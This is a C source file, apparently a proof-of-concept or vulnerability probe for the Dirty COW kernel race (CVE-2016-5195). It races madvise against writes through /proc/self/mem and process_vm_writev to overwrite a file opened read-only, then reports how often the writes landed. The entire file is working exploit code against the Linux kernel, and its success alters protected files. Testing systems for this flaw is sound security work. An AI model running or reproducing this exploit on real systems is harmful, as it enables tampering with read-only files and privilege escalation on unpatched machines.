/*
 * race.c - tries for a while to write to a file that it may only read, by races on its private mapping (CVE-2016-5195).
 * One thread writes to the mapping through /proc/self/mem (and ptrace's cousin process_vm_writev), the other throws the
 * private copy away. Prints how many bytes each way could write at all. usage: race FILE MILLISECONDS
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static void *map;
static atomic_int stop;

static void *forget(void *arg) {
        (void) arg;
        while (!stop)
                (void) madvise(map, 4096, MADV_DONTNEED);
        return NULL;
}

int main(int argc, char **argv) {
        static const char text[] = "OVERWRITTEN";
        struct iovec from = { (void *) text, sizeof(text) - 1 }, to;
        int fd = argc == 3 ? open(argv[1], O_RDONLY) : -1;
        int mem = open("/proc/self/mem", O_RDWR);
        int mem_errno = errno, vm_errno = 0;
        struct timespec begin, now;
        long by_mem = 0, by_vm = 0, ms = argc == 3 ? strtol(argv[2], NULL, 10) : 0;
        pthread_t thread;

        if (fd < 0)
                return 2;
        map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        if (map == MAP_FAILED || pthread_create(&thread, NULL, forget, NULL) != 0)
                return 2;
        to = (struct iovec){ map, sizeof(text) - 1 };
        (void) clock_gettime(CLOCK_MONOTONIC, &begin);
        do {
                if (mem >= 0 && pwrite(mem, text, sizeof(text) - 1, (off_t) map) > 0)
                        by_mem++;
                if (process_vm_writev(getpid(), &from, 1, &to, 1, 0) > 0)
                        by_vm++;
                else if (!vm_errno)
                        vm_errno = errno; /* the first answer: a flood is later refused in another way */
                (void) clock_gettime(CLOCK_MONOTONIC, &now);
        } while ((now.tv_sec - begin.tv_sec) * 1000 + (now.tv_nsec - begin.tv_nsec) / 1000000 < ms);
        stop = 1;
        (void) pthread_join(thread, NULL);
        printf("mem %s %ld\nvm %s %ld\nfile %.11s\n", mem < 0 ? strerrorname_np(mem_errno) : "open", by_mem,
               by_vm ? "0" : strerrorname_np(vm_errno), by_vm, (char *) map);
        return 0;
}
